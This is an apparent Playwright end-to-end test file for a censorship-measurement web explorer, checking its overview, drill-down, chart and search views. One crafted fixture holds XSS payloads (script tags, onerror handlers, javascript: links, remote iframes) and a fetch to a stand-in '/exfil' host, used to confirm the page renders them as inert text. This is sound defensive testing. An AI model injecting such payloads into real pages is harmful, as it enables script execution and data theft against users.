// The explorer end to end, in a real browser: Debian's chromium driven by playwright-core, over
// the real server (buildApp) and a real SQLite store seeded with OONI fixtures, synthetic
// measurements and three crafted ones (a DNS injection, a TLS reset with wallscope's follow-up
// checks, and a hostile page). No request may leave the local server: every other one is aborted
// and recorded, and the tests assert there were none. Screenshots go to test-artifacts/.
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { BrowserContext, Page } from 'playwright-core';
import { analyzeMeasurement } from '../analysis/index.js';
import { type Measurement, type Verdict } from '../model/index.js';
import { fixturesDir, repoRoot } from '../probe/index.js';
import { SqliteStore } from '../store/index.js';
import { launchLocalBrowser } from '../testing/browser.js';
import { sampleMeasurement, syntheticMeasurements } from '../testing/seed.js';
import { buildApp } from './index.js';

/* eslint-disable @typescript-eslint/no-explicit-any -- the functions passed to page.evaluate run in the browser, whose DOM types this Node build does not have */
// The functions passed to page.evaluate run in the browser; these names exist there, not here.
declare const document: any;
declare const window: any;
declare const location: any;
declare function getComputedStyle(el: any): any;

const ARTIFACTS = join(repoRoot, 'test-artifacts');
const WEB_DIST = join(repoRoot, 'web', 'dist');

interface Seeded {
  m: Measurement;
  verdict: Verdict;
}

const V = (o: Partial<Verdict> & Pick<Verdict, 'status'>): Verdict => ({
  blocking: null,
  accessible: null,
  mechanism: null,
  layer: null,
  confidence: 0.9,
  evidence: [],
  explanation: '',
  confirmed: false,
  fingerprints: [],
  analysis_version: 'explorer-test/1',
  ...o,
});

const INJECTION_DAY = '2026-11-20';
const FORGED = ['31.13.94.37', '157.240.17.35'];
const GENUINE = '127.0.0.10';

/** The national firewall's signature: two forged replies racing the genuine one. */
function injectionMeasurement(): Seeded {
  const q = (addr: string | null, t0: number, t: number, queryType = 'A') => ({
    engine: 'udp',
    resolver_address: '127.0.0.53:53',
    hostname: 'youtube.com',
    query_type: queryType,
    failure: addr ? null : 'dns_no_answer',
    answers: addr ? [{ answer_type: 'A', ipv4: addr, ttl: 60 }] : null,
    t0,
    t,
  });
  const m = sampleMeasurement({
    probe_cc: 'CN',
    probe_asn: 'AS4134',
    input: 'https://youtube.com/',
    start: new Date(`${INJECTION_DAY}T23:59:00Z`),
    extra: {
      // A: two forged replies race the genuine one. AAAA: a forged A record answers an AAAA query
      // ahead of the genuine empty answer (the injector's signature in censors.md).
      queries: [q(FORGED[0]!, 0.001, 0.021), q(FORGED[1]!, 0.002, 0.023, 'AAAA')],
      x_dns_duplicate_responses: [q(FORGED[1]!, 0.001, 0.022), q(GENUINE, 0.001, 0.161), q(null, 0.002, 0.162, 'AAAA')],
      tcp_connect: [{ ip: FORGED[0], port: 443, status: { success: false, failure: 'generic_timeout_error' }, t0: 0.03, t: 10.03 }],
      control: {
        dns: { failure: null, addrs: [GENUINE] },
        tcp_connect: { [`${GENUINE}:443`]: { status: true, failure: null } },
        http_request: { body_length: 4000, failure: null, title: 'YouTube', headers: {}, status_code: 200 },
      },
      blocking: 'dns',
      accessible: false,
    },
  });
  return {
    m,
    verdict: V({
      status: 'blocked',
      blocking: 'dns',
      accessible: false,
      mechanism: 'dns.injection',
      layer: 'national',
      confidence: 0.95,
      evidence: ['queries[0]', 'x_dns_duplicate_responses[0]', 'x_dns_duplicate_responses[1]'],
      explanation:
        'Three replies came back to one DNS query: two forged ones first, then the real one. This is DNS injection by the national firewall.',
    }),
  };
}

function tlsResetMeasurement(): Seeded {
  const m = sampleMeasurement({
    probe_cc: 'CN',
    probe_asn: 'AS4837',
    input: 'https://www.google.com/',
    start: new Date(`${INJECTION_DAY}T10:00:00Z`),
    extra: {
      tls_handshakes: [
        {
          address: '127.0.0.11:443',
          server_name: 'www.google.com',
          failure: 'connection_reset',
          tls_version: '',
          cipher_suite: '',
          negotiated_protocol: '',
          no_tls_verify: false,
          peer_certificates: null,
          t0: 0.05,
          t: 0.068,
          x_reset_latency_ms: 18.2,
        },
      ],
      x_tls_sni_variants: [
        { tag: 'decoy-before', server_name: 'example.org', address: '127.0.0.11:443', failure: null, t0: 0.02, t: 0.04 },
        { tag: 'decoy-after', server_name: 'example.org', address: '127.0.0.11:443', failure: 'connection_reset', t0: 0.07, t: 0.09 },
      ],
      // `measure --capture`: the GFW type II triple RST+ACK that ended the handshake.
      x_captured: [
        {
          operation: 'tls_handshake',
          address: '127.0.0.11:443',
          failure: 'connection_reset',
          transaction_id: 1,
          trigger_t: 0.0501,
          count: 3,
          packets: [0, 1460, 4380].map((seq, i) => ({
            dir: 'in',
            proto: 'tcp',
            t_ms: 17.98 + i * 0.01,
            src: '127.0.0.11:443',
            dst: '127.0.0.1:40122',
            ttl: 101,
            ip_id: 0x1234 + i,
            df: true,
            flags: 'RST+ACK',
            window: 2000 + i,
            seq_rel: seq,
            ack_rel: 0,
            tcp_header_length: 20,
            payload_length: 0,
            payload_hex: '',
          })),
        },
      ],
      x_locate: [{ operation: 'tls_handshake', address: '127.0.0.11:443', hop: 7 }],
      blocking: 'http-failure',
      accessible: false,
    },
  });
  return {
    m,
    verdict: V({
      status: 'blocked',
      blocking: 'http-failure',
      accessible: false,
      mechanism: 'tls.reset',
      layer: 'national',
      evidence: ['tls_handshakes[0]', 'x_tls_sni_variants[1]', 'x_captured[0]'],
      explanation:
        'The TLS handshake naming www.google.com was reset, and a harmless one right after was reset too (residual blocking): the national firewall.',
    }),
  };
}

const HOSTILE_BODY =
  '<html><body><h1 id="pwn">Blocked</h1><script>window.__pwned = 1; alert(1); fetch("http://198.51.100.7/exfil")</script>' +
  '<img src="http://198.51.100.7/pixel.png" onerror="window.__pwned = 2; alert(2)">' +
  '<a id="jslink" href="javascript:window.__pwned=3">click me</a>' +
  '<iframe src="http://198.51.100.8/"></iframe><style>@import url(http://198.51.100.9/x.css);</style></body></html>';

/** A block page that tries everything: scripts, handlers, javascript: links, remote loads. */
/** A self-declared region is free text from a volunteer: it too must stay text, also in the hash route. */
const HOSTILE_REGION = '<img src=x onerror="window.__pwned=7">/../?x=1#y';

function hostileMeasurement(): Seeded {
  const evilHeader = '<script>window.__pwned=4</script><img src=x onerror="window.__pwned=5">';
  const m = sampleMeasurement({
    probe_cc: 'IR',
    probe_asn: 'AS44244',
    input: 'http://news.example/"><img src=x onerror=alert(6)>',
    region: HOSTILE_REGION,
    start: new Date('2026-11-19T12:00:00Z'),
    extra: {
      requests: [
        {
          failure: null,
          request: { url: 'http://news.example/', method: 'GET', headers: { Host: 'news.example' }, body: '', body_is_truncated: false },
          response: {
            code: 200,
            headers: { 'Content-Type': 'text/html', Location: 'javascript:window.__pwned=6', 'X-Evil': evilHeader },
            body: HOSTILE_BODY,
            body_is_truncated: false,
          },
          t0: 0.1,
          t: 0.2,
        },
      ],
      // Packet evidence is hostile data too: strings where numbers belong, markup in every field.
      x_captured: [
        {
          operation: '<img src=x onerror="window.__pwned=10">',
          address: '<script>window.__pwned=11</script>',
          failure: 'connection_reset',
          trigger_t: 'soon',
          count: 1,
          packets: [
            {
              dir: 'in',
              t_ms: 1,
              src: '<b>src</b>',
              dst: 'x',
              ttl: '<i>58</i>',
              ip_id: 1,
              df: false,
              flags: '<img src=x onerror="window.__pwned=12">',
              window: 0,
              seq_rel: 0,
              ack_rel: 0,
              tcp_header_length: 20,
              payload_length: 10,
              payload_hex: '<script>window.__pwned=13</script>',
            },
          ],
        },
      ],
      blocking: 'http-diff',
      accessible: false,
    },
  });
  m.probe_network_name = '<img src=x onerror="window.__pwned=7">';
  return {
    m,
    verdict: V({
      status: 'blocked',
      blocking: 'http-diff',
      accessible: false,
      mechanism: 'http.blockpage',
      layer: 'isp',
      confirmed: true,
      fingerprints: ['<b>fp</b>'],
      evidence: ['requests[0]'],
      explanation: 'A block page was served. <img src=x onerror="window.__pwned=8"> <a href="javascript:window.__pwned=9">see</a>',
    }),
  };
}

/** The OONI fixtures, judged by the real analysis (as the collector would). */
function fixtureMeasurements(): Seeded[] {
  const out: Seeded[] = [];
  const base = join(fixturesDir, 'measurements');
  for (const dir of readdirSync(base)) {
    for (const f of readdirSync(join(base, dir))) {
      if (!f.endsWith('.json')) continue;
      const m = JSON.parse(readFileSync(join(base, dir, f), 'utf8')) as Measurement;
      out.push({ m, verdict: analyzeMeasurement(m) });
    }
  }
  return out;
}

interface Env {
  base: string;
  ctx: BrowserContext;
  offsite: string[];
  dialogs: string[];
  consoleErrors: string[];
  seeded: Array<Seeded & { uid: string }>;
  uids: { injection: string; tls: string; hostile: string };
}

async function setUp(): Promise<Env & { close(): Promise<void> }> {
  assert.ok(existsSync(join(WEB_DIST, 'index.html')), 'web/dist is missing: run `npx vite build web` (scripts/setup.sh does)');
  const dir = mkdtempSync(join(tmpdir(), 'wallscope-explorer-'));
  const store = new SqliteStore(join(dir, 'store.sqlite'));
  const crafted = [injectionMeasurement(), tlsResetMeasurement(), hostileMeasurement()];
  const all: Seeded[] = [
    ...fixtureMeasurements(),
    ...syntheticMeasurements(400, { seed: 11, days: 30, end: new Date('2026-11-21T00:00:00Z') }),
    ...crafted,
  ];
  const seeded: Env['seeded'] = [];
  // Robustness: some fixtures share a uid (the store keeps the first): count only what was stored.
  for (const s of all) {
    const r = await store.put(s.m, s.verdict);
    if (r.inserted) seeded.push({ ...s, uid: r.measurement_uid });
  }
  const uidOf = (s: Seeded) => seeded.find((x) => x.m === s.m)!.uid;
  const app = await buildApp({ store, webRoot: WEB_DIST, logger: false });
  const base = (await app.listen({ host: '127.0.0.1', port: 0 })).replace(/\/$/, '');
  const browser = await launchLocalBrowser(base, { viewport: { width: 1280, height: 900 } });
  const { ctx, offsite } = browser;
  const dialogs: string[] = [];
  const consoleErrors: string[] = [];
  ctx.on('page', (p) => {
    p.on('dialog', (d) => (dialogs.push(d.message()), void d.dismiss()));
    // Script errors and CSP refusals show here; a 404 of a deliberately unknown uid does too.
    p.on('console', (m) => m.type() === 'error' && consoleErrors.push(m.text()));
    p.on('pageerror', (e) => consoleErrors.push(`pageerror: ${e.message}`));
  });
  mkdirSync(ARTIFACTS, { recursive: true });
  return {
    base,
    ctx,
    offsite,
    dialogs,
    consoleErrors,
    seeded,
    uids: { injection: uidOf(crafted[0]!), tls: uidOf(crafted[1]!), hostile: uidOf(crafted[2]!) },
    async close() {
      await browser.close();
      await app.close();
      await store.close();
      rmSync(dir, { recursive: true, force: true });
    },
  };
}

async function openPage(env: Env, hash: string): Promise<Page> {
  const page = await env.ctx.newPage();
  await page.goto(`${env.base}/${hash}`);
  await page.locator('main h1').first().waitFor();
  return page;
}

async function shot(page: Page, name: string): Promise<void> {
  await page.screenshot({ path: join(ARTIFACTS, `explorer-${name}.png`), fullPage: true });
}

/** Waits until nothing is loading any more. */
async function settled(page: Page): Promise<void> {
  await page.waitForFunction(() => document.querySelectorAll('[aria-busy="true"]').length === 0);
}

describe('explorer (web/dist served by buildApp, in chromium)', () => {
  let env: Env & { close(): Promise<void> };
  before(async () => {
    env = await setUp();
  });
  after(async () => {
    await env?.close();
  });

  it('loads the overview: totals, latest blocks, counts by mechanism and layer; reports the first-load weight', async () => {
    const page = await env.ctx.newPage();
    const pending: Array<Promise<{ url: string; bytes: number }>> = [];
    page.on('requestfinished', (r) => {
      pending.push(r.sizes().then((s) => ({ url: r.url(), bytes: s.responseBodySize + s.responseHeadersSize })));
    });
    await page.goto(`${env.base}/`);
    await page.locator('main h1').waitFor();
    await settled(page);
    const sizes = await Promise.all(pending);
    // Default period: the 30 days up to the newest measurement.
    const newest = env.seeded
      .map((s) => s.m.measurement_start_time)
      .sort()
      .at(-1)!;
    const since = new Date(Date.parse(`${newest.slice(0, 10)}T00:00:00Z`) - 29 * 86400_000).toISOString().slice(0, 10);
    assert.equal(await page.locator('[data-testid=window]').innerText(), `last 30 days of data: ${since} to ${newest.slice(0, 10)}`);
    const inWindow = env.seeded.filter((s) => s.m.measurement_start_time >= `${since} 00:00:00`).length;
    const totals = await page.locator('dl.totals').innerText();
    assert.match(totals, new RegExp(`Measurements\\s+${inWindow.toLocaleString('en-US')}(\\s|$)`));
    const badges = await page.locator('table.measurements').first().locator('tbody tr .badge').allInnerTexts();
    assert.ok(badges.length > 0, 'latest blocks listed');
    for (const b of badges) assert.ok(b === 'Anomaly' || b === 'Confirmed', `only blocks in the latest-blocks list, got ${b}`);
    const mech = await page.locator('section.breakdown', { hasText: 'By mechanism' }).innerText();
    assert.match(mech, /dns\.injection/);
    assert.match(await page.locator('section.breakdown', { hasText: 'By layer' }).innerText(), /national/);
    assert.ok((await page.locator('.bar-slot').count()) > 0, 'time series drawn');
    await shot(page, 'overview');
    const isStatic = (u: string) => !u.includes('/api/');
    const staticBytes = sizes.filter((s) => isStatic(s.url)).reduce((a, s) => a + s.bytes, 0);
    const apiBytes = sizes.filter((s) => !isStatic(s.url)).reduce((a, s) => a + s.bytes, 0);
    console.log(
      `explorer first load (overview): ${sizes.length} responses, ${staticBytes + apiBytes} bytes ` +
        `(static ${staticBytes} bytes in ${sizes.filter((s) => isStatic(s.url)).length} files, API ${apiBytes} bytes)`,
    );
    assert.deepEqual(env.offsite, []);
    // All time: every stored measurement.
    await page.selectOption('#window', 'all');
    await page.waitForFunction(() => location.hash.includes('window=all'));
    await settled(page);
    assert.match(
      await page.locator('dl.totals').innerText(),
      new RegExp(`Measurements\\s+${env.seeded.length.toLocaleString('en-US')}(\\s|$)`),
    );
    await page.close();
  });

  it('drills down: country chart bar -> its measurements -> one measurement with the evidence timeline', async () => {
    const page = await openPage(env, '#/country/CN');
    const bar = page.locator(`.bar-slot[data-bar="${INJECTION_DAY}"]`);
    await bar.waitFor();
    // Since when, and how much: computed from the seed, shown above the chart.
    const cn = env.seeded.filter((s) => s.m.probe_cc === 'CN');
    const cnBlocked = cn.filter((s) => s.verdict.status === 'blocked');
    const days = cnBlocked.map((s) => s.m.measurement_start_time.slice(0, 10)).sort();
    const since = await page.locator('[data-testid=since]').innerText();
    assert.ok(since.includes(`from ${days[0]} to ${days[days.length - 1]}`), since);
    assert.ok(since.includes(`${cnBlocked.length} of ${cn.length}`), since);
    await shot(page, 'country-CN');
    await bar.click();
    await page.waitForFunction((d) => location.hash.includes(`bucket=${d}`), INJECTION_DAY);
    await settled(page);
    assert.equal(await bar.getAttribute('aria-pressed'), 'true');
    const expected = env.seeded.filter((s) => s.m.probe_cc === 'CN' && s.m.measurement_start_time.startsWith(INJECTION_DAY)).length;
    const list = page.locator('table.measurements', { hasText: `starting ${INJECTION_DAY}` });
    await list.waitFor();
    assert.equal(await list.locator('tbody tr').count(), Math.min(50, expected));
    for (const t of await list.locator('tbody tr td:first-child').allInnerTexts()) assert.ok(t.startsWith(INJECTION_DAY), t);
    await shot(page, 'country-CN-bucket');
    // Newest first: the injection (23:59) heads the list.
    const link = list.locator('a.m-link').first();
    assert.equal(await link.getAttribute('href'), `#/measurement/${encodeURIComponent(env.uids.injection)}`);
    await link.click();
    await page.locator('.explanation').waitFor();
    assert.match(await page.locator('main h1').innerText(), /youtube\.com/);
    assert.match(await page.locator('.explanation').innerText(), /DNS injection by the national firewall/);
    const verdict = await page.locator('section.verdict').innerText();
    assert.match(verdict, /dns\.injection/);
    assert.match(verdict, /national/);
    assert.match(verdict, /95%/);
    // Five DNS replies: the three forged ones marked injected, the two genuine ones not.
    const dns = page.locator('ol.timeline li.tl-dns');
    assert.equal(await dns.count(), 5);
    const injected = await page.locator('ol.timeline li.tl-injected').evaluateAll((els) => els.map((e) => e.getAttribute('data-ref')));
    assert.deepEqual(injected.sort(), ['queries[0]', 'queries[1]', 'x_dns_duplicate_responses[0]']);
    assert.match(await page.locator('li[data-ref="x_dns_duplicate_responses[1]"]').innerText(), new RegExp(GENUINE.replace(/\./g, '\\.')));
    assert.ok(await page.locator('li[data-ref="queries[0]"].tl-evidence').count(), 'evidence marked');
    assert.match(await page.locator('li[data-ref="tcp_connect[0]"]').innerText(), /generic_timeout_error/);
    assert.match(await page.locator('table.control').innerText(), new RegExp(GENUINE.replace(/\./g, '\\.')));
    await page.locator('details', { hasText: 'Show the raw JSON' }).locator('summary').click();
    assert.match(await page.locator('pre.raw').innerText(), /"x_dns_duplicate_responses"/);
    await shot(page, 'measurement-injection');
    // And on to the same domain in the same network.
    await page.click('a:has-text("Other measurements of youtube.com in AS4134")');
    await page.waitForFunction(() => location.hash.startsWith('#/search') && location.hash.includes('probe_asn=AS4134'));
    await settled(page);
    const same = env.seeded.filter((s) => s.m.probe_asn === 'AS4134' && s.m.input?.startsWith('https://youtube.com/')).length;
    assert.equal(await page.locator('table.measurements tbody tr').count(), Math.min(50, same));
    assert.deepEqual(env.offsite, []);
    await page.close();
  });

  it('shows the TLS follow-up checks and reset latency in time order', async () => {
    const page = await openPage(env, `#/measurement/${encodeURIComponent(env.uids.tls)}`);
    await page.locator('ol.timeline').first().waitFor();
    const refs = await page
      .locator('ol.timeline')
      .first()
      .locator('li')
      .evaluateAll((els) => els.map((e) => e.getAttribute('data-ref')));
    assert.deepEqual(refs, ['x_tls_sni_variants[0]', 'tls_handshakes[0]', 'x_tls_sni_variants[1]']);
    assert.match(await page.locator('li[data-ref="tls_handshakes[0]"]').innerText(), /reset 18\.2 ms after the ClientHello/);
    assert.match(await page.locator('li[data-ref="x_tls_sni_variants[0]"]').innerText(), /decoy-before/);
    // The captured packets of the failed handshake, one row each, and the injector's hop.
    const packets = page.locator('table.packets[data-ref="x_captured[0]"]');
    assert.match(
      await packets.locator('caption').innerText(),
      /tls_handshake 127\.0\.0\.11:443 — connection_reset · trigger \(the ClientHello\) at \+50\.1 ms · 3 packets x_captured\[0\]\s*evidence/,
    );
    const rows = await packets
      .locator('tbody tr')
      .evaluateAll((trs) => trs.map((tr) => [...tr.querySelectorAll('td')].map((td) => td.textContent)));
    assert.deepEqual(
      rows,
      [0, 1460, 4380].map((seq, i) => [
        'in',
        `+${(17.98 + i * 0.01).toFixed(2)}`,
        '127.0.0.11:443 → 127.0.0.1:40122',
        '101',
        `0x${(0x1234 + i).toString(16)} (${0x1234 + i})`,
        '1',
        'RST+ACK',
        String(2000 + i),
        String(seq),
        '0',
        '20',
        '–',
      ]),
    );
    assert.deepEqual(await page.locator('table.hops tbody tr td').allInnerTexts(), ['tls_handshake', '127.0.0.11:443', '7']);
    await shot(page, 'measurement-tls');
    await page.close();
  });

  it('loads the network, domain and region pages', async () => {
    for (const [hash, title] of [
      ['#/asn/AS4134', /Network: AS4134/],
      ['#/asn/4134', /Network: AS4134/],
      ['#/domain/youtube.com', /Domain: youtube\.com/],
    ] as const) {
      const page = await openPage(env, hash);
      // The heading changes once the route's data arrives: wait for it rather than read it once.
      await page.locator('main h1', { hasText: title }).waitFor();
      await settled(page);
      assert.ok((await page.locator('.bar-slot').count()) > 0, `${hash}: chart drawn`);
      assert.ok((await page.locator('table.measurements tbody tr').count()) > 0, `${hash}: measurements listed`);
      await shot(page, hash.replace(/[^a-z0-9]+/gi, '-').replace(/^-|-$/g, ''));
      await page.close();
    }
    // Stacked by layer instead of status: the legend and the bars' names say which layer.
    const dom = await openPage(env, '#/domain/youtube.com');
    await dom.locator('.bar-slot').first().waitFor();
    await dom.selectOption('#stack-by', 'layer');
    await dom.waitForFunction(() => location.hash.includes('stack=layer'));
    await dom.waitForFunction(() => document.querySelector('figure.chart .legend')?.textContent.includes('national'));
    const names = await dom.locator('.bar-slot').evaluateAll((els) => els.map((e) => e.getAttribute('aria-label') ?? ''));
    assert.ok(
      names.some((n) => /national \d+/.test(n)),
      'a bar names its national count',
    );
    await shot(dom, 'domain-by-layer');
    await dom.close();
  });

  it('region page: counts per day from annotations.region, a bar lists its measurements, one opens; countries break down by region', async () => {
    const henan = env.seeded.filter((s) => s.m.annotations?.region === 'Henan');
    assert.ok(henan.length > 10, 'the seed declares Henan on some CN measurements');
    const perDay = new Map<string, number>();
    for (const s of henan)
      perDay.set(s.m.measurement_start_time.slice(0, 10), (perDay.get(s.m.measurement_start_time.slice(0, 10)) ?? 0) + 1);
    const [day, expected] = [...perDay].sort((a, b) => b[1] - a[1] || a[0].localeCompare(b[0]))[0]!;
    const page = await openPage(env, '#/region/Henan');
    // The heading changes once the route has rendered (a first frame may still show another page's).
    await page.locator('main h1', { hasText: /Region: Henan/ }).waitFor();
    assert.match(await page.locator('main p.note').innerText(), /declared/);
    assert.equal(await page.locator('main [role=status].error').count(), 0, 'the stub text is gone');
    const bar = page.locator(`.bar-slot[data-bar="${day}"]`);
    await bar.waitFor();
    await settled(page);
    // One bar per day with Henan measurements, and nothing from other regions in them.
    assert.equal((await page.locator('.bar-slot').count()) >= perDay.size, true);
    const label = (await bar.getAttribute('aria-label')) ?? '';
    assert.ok(label.startsWith(`${day}: ${expected} measurements`), label);
    assert.equal(await page.locator('section.breakdown', { hasText: 'By network' }).count(), 1, 'breakdown tables drawn');
    await shot(page, 'region-Henan');
    await bar.click();
    await page.waitForFunction((d) => location.hash.includes(`bucket=${d}`), day);
    await settled(page);
    const list = page.locator('table.measurements', { hasText: `starting ${day}` });
    await list.waitFor();
    assert.equal(await list.locator('tbody tr').count(), Math.min(50, expected));
    const regionCells = await list.locator('tbody tr td:nth-child(6)').allInnerTexts();
    assert.deepEqual([...new Set(regionCells)], ['Henan']);
    await shot(page, 'region-Henan-bucket');
    const first = list.locator('a.m-link').first();
    const uid = decodeURIComponent(((await first.getAttribute('href')) ?? '').replace('#/measurement/', ''));
    assert.ok(
      henan.some((s) => s.uid === uid),
      'the listed measurement is one of Henan',
    );
    await first.click();
    await page.locator('.explanation').waitFor();
    const facts = page.locator('dl div', { hasText: 'Region (self-declared)' });
    assert.match(await facts.innerText(), /Henan/);
    await page.close();

    // The country page breaks down by region; a region links to its page.
    const cn = await openPage(env, '#/country/CN');
    await settled(cn);
    const byRegion = cn.locator('section.breakdown', { hasText: 'By region' });
    await byRegion.locator('a', { hasText: 'Henan' }).click();
    await cn.waitForFunction(() => location.hash === '#/region/Henan');
    // The country page's bars and heading are still up until the region page renders: wait for its heading.
    await cn.locator('main h1', { hasText: /Region: Henan/ }).waitFor();
    await cn.locator('.bar-slot').first().waitFor();
    assert.deepEqual(env.offsite, []);
    await cn.close();
  });

  it('shows real OONI measurements (fixtures) with the stored verdict and their observations', async () => {
    const nx = env.seeded.find((s) => s.m.test_name === 'web_connectivity' && s.verdict.mechanism === 'dns.nxdomain');
    assert.ok(nx, 'a fixture judged dns.nxdomain');
    const page = await openPage(env, `#/measurement/${encodeURIComponent(nx.uid)}`);
    await page.locator('.explanation').waitFor();
    assert.equal(await page.locator('.explanation').innerText(), nx.verdict.explanation);
    assert.match(await page.locator('section.verdict').innerText(), /dns\.nxdomain/);
    const queries = (nx.m.test_keys as { queries?: unknown[] }).queries ?? [];
    assert.equal(await page.locator('ol.timeline').first().locator('li.tl-dns').count(), queries.length);
    assert.ok((await page.locator('ol.timeline li.tl-failed').count()) > 0, 'the failing lookups are marked');
    await shot(page, 'measurement-fixture-nxdomain');
    // A test the explorer has no timeline for still shows its verdict and raw JSON.
    const tor = env.seeded.find((s) => s.m.test_name === 'tor');
    assert.ok(tor);
    await page.goto(`${env.base}/#/measurement/${encodeURIComponent(tor.uid)}`);
    await page.locator('section.verdict').waitFor();
    assert.equal(await page.locator('details', { hasText: 'Show the raw JSON' }).count(), 1);
    await page.close();
  });

  it('builds a chart over the aggregation API, exports CSV and JSON, and keeps a permalink', async () => {
    const page = await openPage(env, '#/chart?axis_x=probe_cc&time_grain=day');
    await settled(page);
    const rows = await page.locator('table.agg tbody tr').count();
    const ccs = new Set(env.seeded.map((s) => s.m.probe_cc));
    assert.equal(rows, ccs.size);
    // Change the settings through the form: split by mechanism, only CN.
    await page.selectOption('#c-axis_y', 'mechanism');
    await page.fill('#c-probe_cc', 'CN');
    await page.click('form[aria-label="Chart settings"] button[type=submit]');
    await page.waitForFunction(() => location.hash.includes('axis_y=mechanism') && location.hash.includes('probe_cc=CN'));
    await settled(page);
    const firstCells = await page.locator('table.agg tbody tr td:first-child').allInnerTexts();
    assert.ok(firstCells.length > 0 && firstCells.every((c) => c === 'CN'), 'only CN rows');
    // The chart stacks by the Y axis now: its legend names the mechanisms.
    assert.match(await page.locator('figure.chart .legend').innerText(), /dns\.injection/);
    assert.equal(await page.locator('#permalink').inputValue(), page.url());
    const csvHref = await page.locator('a', { hasText: 'Export CSV' }).getAttribute('href');
    const jsonHref = await page.locator('a', { hasText: 'Export JSON' }).getAttribute('href');
    assert.ok(csvHref && jsonHref);
    const csv = await page.evaluate(async (h) => (await fetch(h)).text(), csvHref);
    const header = csv.split(/\r?\n/)[0] ?? '';
    assert.match(header, /probe_cc/);
    assert.match(header, /mechanism/);
    assert.match(header, /measurement_count/);
    const json = (await page.evaluate(async (h) => (await fetch(h)).json(), jsonHref)) as { result: unknown[]; dimension_count: number };
    assert.equal(json.dimension_count, 2);
    assert.equal(json.result.length, await page.locator('table.agg tbody tr').count());
    await shot(page, 'chart-builder');
    // The permalink restores the same view in a fresh page.
    const again = await env.ctx.newPage();
    await again.goto(page.url());
    await again.locator('table.agg').waitFor();
    assert.equal(await again.locator('#c-axis_y').inputValue(), 'mechanism');
    assert.equal(await again.locator('table.agg tbody tr').count(), json.result.length);
    await again.close();
    // A click on a category bar goes to that entity.
    await page.goto(`${env.base}/#/chart?axis_x=probe_cc`);
    await page.locator('.bar-slot[data-bar="IR"]').click();
    await page.waitForFunction(() => location.hash.startsWith('#/country/IR'));
    await page.close();
  });

  it('searches by domain and mechanism', async () => {
    const page = await openPage(env, '#/search');
    await page.fill('#s-domain', 'youtube.com');
    await page.selectOption('#s-mechanism', 'dns.injection');
    await page.click('form.filters button[type=submit]');
    await page.waitForFunction(() => location.hash.includes('domain=youtube.com') && location.hash.includes('mechanism=dns.injection'));
    await settled(page);
    const expected = env.seeded.filter((s) => s.m.input?.includes('youtube.com') && s.verdict.mechanism === 'dns.injection').length;
    const rows = page.locator('table.measurements tbody tr');
    assert.equal(await rows.count(), Math.min(50, expected));
    for (const cell of await rows.locator('td:nth-child(7)').allInnerTexts()) assert.equal(cell, 'dns.injection'); // after Region
    await shot(page, 'search');
    // Cursor pages: all measurements, 50 a page, newest first, no row twice.
    await page.goto(`${env.base}/#/search`);
    // Robustness: a hash-only navigation keeps the filtered table on screen until the new request
    // starts, so `settled` alone could read the old rows; wait for the unfiltered first page.
    await page.waitForFunction(() => document.querySelectorAll('table.measurements a.m-link').length === 50);
    await settled(page);
    const firstPage = await page.locator('table.measurements a.m-link').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
    assert.equal(firstPage.length, 50);
    await page.click('button:has-text("Next page")');
    await page.locator('table.measurements caption', { hasText: '(page 2)' }).waitFor();
    await settled(page);
    const secondPage = await page.locator('table.measurements a.m-link').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
    assert.equal(secondPage.length, 50);
    assert.ok(!secondPage.some((h) => firstPage.includes(h)), 'no row on both pages');
    const times = await page.locator('table.measurements tbody td:first-child').allInnerTexts();
    assert.deepEqual([...times].sort().reverse(), times, 'newest first');
    await page.click('button:has-text("Previous page")');
    await page.waitForFunction(() => !document.querySelector('table.measurements caption').textContent.includes('(page 2)'));
    await settled(page);
    assert.deepEqual(
      await page.locator('table.measurements a.m-link').evaluateAll((as) => as.map((a) => a.getAttribute('href'))),
      firstPage,
    );
    // The "Go to" box understands a country, an ASN number, a URL and a measurement id.
    for (const [typed, hash] of [
      ['cn', '#/country/CN'],
      ['4134', '#/asn/AS4134'],
      ['https://YouTube.com/watch?v=1', '#/domain/youtube.com'],
      [env.uids.tls, `#/measurement/${encodeURIComponent(env.uids.tls)}`],
    ] as const) {
      await page.fill('#jump', typed);
      await page.press('#jump', 'Enter');
      await page.waitForFunction((h) => location.hash === h, hash);
    }
    await page.close();
  });

  it('renders a hostile measurement as text: nothing executes, nothing is fetched', async () => {
    const page = await openPage(env, `#/measurement/${encodeURIComponent(env.uids.hostile)}`);
    await page.locator('pre.body').waitFor();
    await page.locator('details', { hasText: 'Show the raw JSON' }).locator('summary').click();
    await page.waitForTimeout(300); // give any injected handler the chance to fire
    assert.equal(await page.locator('pre.body').innerText(), HOSTILE_BODY);
    assert.match(await page.locator('table.headers').nth(1).innerText(), /javascript:window\.__pwned=6/);
    assert.match(await page.locator('.explanation').innerText(), /<img src=x onerror=/);
    const pk = await page.locator('table.packets tbody td').allInnerTexts();
    assert.deepEqual(pk.slice(2, 4), ['<b>src</b> → x', '<i>58</i>']);
    assert.equal(pk[6], '<img src=x onerror="window.__pwned=12">');
    assert.equal(pk[11], '<script>window.__pwned=13</script> (10 B)');
    assert.match(
      await page.locator('table.packets caption').innerText(),
      /^<img src=x onerror="window\.__pwned=10"> <script>window\.__pwned=11<\/script> — connection_reset · trigger \(the trigger\) at – /,
    );
    const dom = await page.evaluate(() => ({
      pwned: (window as unknown as { __pwned?: number }).__pwned ?? null,
      scripts: document.scripts.length,
      imgs: document.querySelectorAll('img').length,
      iframes: document.querySelectorAll('iframe').length,
      jsLinks: [...document.querySelectorAll('a')].filter((a) => /^\s*javascript:/i.test(a.getAttribute('href') ?? '')).length,
      pwnHeading: document.getElementById('pwn') !== null,
    }));
    assert.deepEqual(dom, { pwned: null, scripts: 1, imgs: 0, iframes: 0, jsLinks: 0, pwnHeading: false });
    await shot(page, 'hostile-measurement');
    // The same data in a list (search by country) stays text too.
    await page.goto(`${env.base}/#/search?probe_cc=IR`);
    await settled(page);
    assert.ok((await page.locator('td', { hasText: 'onerror=alert(6)' }).count()) > 0);
    await page.waitForTimeout(200);
    assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned ?? null), null);
    await shot(page, 'hostile-list');
    // Its region, from the row's link to the region page: text in the title, the filter matches it.
